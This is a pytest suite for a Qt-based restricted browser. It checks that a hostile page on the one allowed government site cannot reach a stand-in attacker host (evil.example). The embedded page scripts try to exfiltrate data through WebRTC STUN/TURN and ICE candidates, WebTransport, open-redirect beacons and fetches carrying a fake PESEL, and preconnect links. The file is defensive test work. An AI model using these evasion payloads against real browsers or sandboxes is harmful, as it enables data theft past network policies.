"""No socket to a host:port the policy does not allow, by any web API (issue 14).

A page on the allowed site (epuap.gov.pl) turns hostile. Listeners record every TCP
connection and UDP datagram on the non-allowed host's own address (evil.example →
127.0.0.2) and on another port of the allowed host, not only HTTP requests. Each test
ends with a positive control from the same page (an allowed request that must arrive
after the attempts), so a page that never ran cannot pass.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from PySide6.QtCore import QPoint, Qt
from PySide6.QtTest import QTest

from tests.support.listeners import ALLOWED_ADDRESS, EVIL_ADDRESS, Listeners, free_port
from tests.support.server import Response, SiteServer
from tests.support.web import (
    ALLOWED,
    EVIL,
    SECURE,
    assert_evil_untouched,
    run_js,
    wait_for_url,
    wait_loaded,
    wait_painted,
)

pytestmark = pytest.mark.web

STUN_PORT = free_port()
OTHER_PORT = free_port()  # another port: on the evil host and on the allowed one


@pytest.fixture
def listeners() -> Iterator[Listeners]:
    recorder = Listeners([(EVIL_ADDRESS, STUN_PORT), (EVIL_ADDRESS, OTHER_PORT), (ALLOWED_ADDRESS, OTHER_PORT)])
    yield recorder
    recorder.close()


def hostile(qtbot, window, sites: SiteServer, html: str, path: str = "/hostile", host: str = ALLOWED):
    sites.route(host, path, html)
    assert window.open(sites.url(host, path))
    page = window.current_page()
    wait_for_url(qtbot, page, path)
    wait_loaded(qtbot, page)
    return page


def arrived(sites: SiteServer, path: str, host: str = ALLOWED) -> bool:
    return any(r.path.startswith(path) for r in sites.hits(host))


def nothing_reached_evil(sites: SiteServer, listeners: Listeners) -> None:
    assert_evil_untouched(sites)
    assert listeners.seen(EVIL_ADDRESS) == []


# --- WebRTC ----------------------------------------------------------------------------------

WEBRTC = """<script>
const done = what => fetch('/done?' + what);
const servers = [
  {urls: 'stun:evil.example:%(stun)d'}, {urls: 'stun:127.0.0.2:%(other)d'},
  {urls: ['turn:evil.example:%(stun)d?transport=udp', 'turn:evil.example:%(stun)d?transport=tcp'],
   username: 'pesel-90010112345', credential: 'x'},
  {urls: ['stun:epuap.gov.pl:%(other)d', 'turn:epuap.gov.pl:%(other)d?transport=udp',
          'turn:epuap.gov.pl:%(other)d?transport=tcp'], username: 'u', credential: 'x'},
];
(async () => {
  try {
    const pc = new RTCPeerConnection({iceServers: servers});
    const peer = new RTCPeerConnection();
    pc.createDataChannel('exfil');
    pc.onicegatheringstatechange = () => pc.iceGatheringState === 'complete' && done('gathered');
    await pc.setLocalDescription(await pc.createOffer());
    await peer.setRemoteDescription(pc.localDescription);
    await peer.setLocalDescription(await peer.createAnswer());
    await pc.setRemoteDescription(peer.localDescription);
    // Remote candidates chosen by the page: connectivity checks would go straight there.
    for (const c of ['1 1 udp 2122260223 127.0.0.2 %(stun)d typ host',
                     '2 1 tcp 1518280447 127.0.0.2 %(stun)d typ host tcptype passive',
                     '3 1 udp 2122260223 127.0.0.1 %(other)d typ host']) {
      await pc.addIceCandidate({candidate: 'candidate:' + c, sdpMid: '0'});
    }
    setTimeout(() => done('checked'), 4000);
  } catch (e) { done('error-' + e.name); }
})();
</script>"""


def test_webrtc_never_reaches_a_host_the_policy_does_not_allow(qtbot, window, sites, listeners) -> None:
    hostile(qtbot, window, sites, WEBRTC % {"stun": STUN_PORT, "other": OTHER_PORT})
    qtbot.waitUntil(lambda: arrived(sites, "/done?checked") or arrived(sites, "/done?error"), timeout=15000)
    assert arrived(sites, "/done?checked")  # the page really ran ICE, with every server it named
    nothing_reached_evil(sites, listeners)
    # As documented: a TURN server over TCP on an allowed host is reached (through the gate),
    # UDP never, not even to the allowed host.
    on_allowed = {c.protocol for c in listeners.seen(ALLOWED_ADDRESS, OTHER_PORT)}
    assert "tcp" in on_allowed and "udp" not in on_allowed


# --- WebTransport (QUIC) -----------------------------------------------------------------------

WEBTRANSPORT = """<script>
(async () => {
  const targets = ['https://evil.example:%(other)d/wt', 'https://127.0.0.2:%(stun)d/wt',
                   'https://urzad.localhost:%(other)d/wt'];
  const outcomes = await Promise.all(targets.map(async url => {
    try { const t = new WebTransport(url); await t.ready; return 'open'; }
    catch (e) { return e.name; }
  }));
  fetch('/done?' + outcomes.join(','));
})();
</script>"""


def test_webtransport_sends_no_quic_datagram(qtbot, window, sites, listeners) -> None:
    # WebTransport exists only in secure contexts: the page is on the *.localhost service.
    hostile(qtbot, window, sites, WEBTRANSPORT % {"stun": STUN_PORT, "other": OTHER_PORT}, host=SECURE)
    qtbot.waitUntil(lambda: arrived(sites, "/done?", SECURE), timeout=20000)
    # The API is there and was refused (not a ReferenceError: that would test nothing).
    assert arrived(sites, "/done?WebTransportError,WebTransportError,WebTransportError", SECURE)
    nothing_reached_evil(sites, listeners)
    assert listeners.seen(ALLOWED_ADDRESS, OTHER_PORT) == []


# --- redirected sub-resources --------------------------------------------------------------


def open_redirect(seen) -> Response:
    """An open redirect on the allowed site, as big portals have: /r?code=…&to=…"""
    from urllib.parse import parse_qs, urlsplit

    query = parse_qs(urlsplit(seen.path).query)
    return Response("", status=int(query.get("code", ["302"])[0]), headers={"Location": query["to"][0]})


def test_redirected_subresources_never_reach_evil(qtbot, window, sites, listeners) -> None:
    sites.route(ALLOWED, "/r", open_redirect)
    evil = f"http://{EVIL}:{sites.port}"
    tags = []
    for round_ in range(4):  # the escape was a race: try often
        for code in (302, 307, 308):
            via = f"/r?code={code}&amp;to={evil}/{round_}-{code}"
            tags += [
                f"<img src='{via}-img'>",
                f"<link rel=stylesheet href='{via}-css'>",
                f"<video src='{via}-video' autoplay muted></video>",
                f"<audio src='{via}-audio' autoplay muted></audio>",
                f"<script src='{via}-script'></script>",
                f"<iframe src='{via}-frame'></iframe>",
            ]
    beacons = "".join(
        f"navigator.sendBeacon('/r?code={code}&to={evil}/beacon-{code}', 'pesel=90010112345');"
        f"fetch('/r?code={code}&to={evil}/fetch-{code}', {{method: 'POST', body: 'pesel', keepalive: true}})"
        ".catch(() => 0);"
        f"fetch('/r?code={code}&to={evil}/get-{code}').catch(() => 0);"
        f"new Image().src = '/r?code={code}&to={evil}/image-{code}';"
        for code in (302, 307, 308)
    )
    html = "".join(tags) + f"<script>{beacons} addEventListener('load', () => fetch('/done?loaded'));</script>"
    hostile(qtbot, window, sites, html)

    def redirects_asked(kind: str) -> int:
        return sum(r.path.startswith("/r?") and r.path.endswith(kind) for r in sites.hits(ALLOWED))

    # Positive controls: every resource ran (load fired) and every beacon and fetch asked
    # the allowed site for its redirect; only then does "evil saw nothing" mean something.
    qtbot.waitUntil(lambda: arrived(sites, "/done?loaded"), timeout=15000)
    for kind in ("img", "css", "script", "frame", "beacon-308", "fetch-308", "get-308", "image-308"):
        qtbot.waitUntil(lambda k=kind: redirects_asked(k) >= 1, timeout=10000)
    nothing_reached_evil(sites, listeners)


# --- preconnect ----------------------------------------------------------------------------


def test_preconnect_opens_no_connection_to_evil(qtbot, window, sites, listeners) -> None:
    evil = f"http://{EVIL}:{sites.port}"
    allowed_other = f"http://{ALLOWED}:{OTHER_PORT}"
    sites.route(
        ALLOWED,
        "/hostile",
        Response(
            f"""<link rel=preconnect href="{evil}"><link rel=dns-prefetch href="{evil}">
            <link rel=preconnect href="http://{EVIL}:{OTHER_PORT}">
            <a id=link href="{evil}/long-press" style="display:block;width:300px;height:120px">Dalej</a>
            <script>const l = document.createElement('link'); l.rel = 'preconnect';
            l.href = 'https://{EVIL}:{OTHER_PORT}'; document.head.append(l);</script>
            <link rel=preconnect href="{allowed_other}">""",
            headers={"Link": f"<{evil}>; rel=preconnect, <https://{EVIL}:{sites.port}>; rel=preconnect"},
        ),
    )
    assert window.open(sites.url(ALLOWED, "/hostile"))
    page = window.current_page()
    wait_loaded(qtbot, page)
    wait_painted(qtbot, page)
    rect = run_js(qtbot, page, "(() => { const r = link.getBoundingClientRect(); return [r.x + 50, r.y + 50]; })()")
    target = window.browser.view.focusProxy()
    point = QPoint(int(rect[0]), int(rect[1]))
    QTest.mouseMove(target, point)
    QTest.mousePress(target, Qt.MouseButton.LeftButton, Qt.KeyboardModifier.NoModifier, point)
    qtbot.wait(1500)  # a long press: held, never released onto the link
    # Positive control: the preconnect to the allowed host's other port was made.
    qtbot.waitUntil(lambda: listeners.seen(ALLOWED_ADDRESS, OTHER_PORT) != [], timeout=10000)
    QTest.mouseRelease(target, Qt.MouseButton.LeftButton, Qt.KeyboardModifier.NoModifier, QPoint(2, 2))
    nothing_reached_evil(sites, listeners)
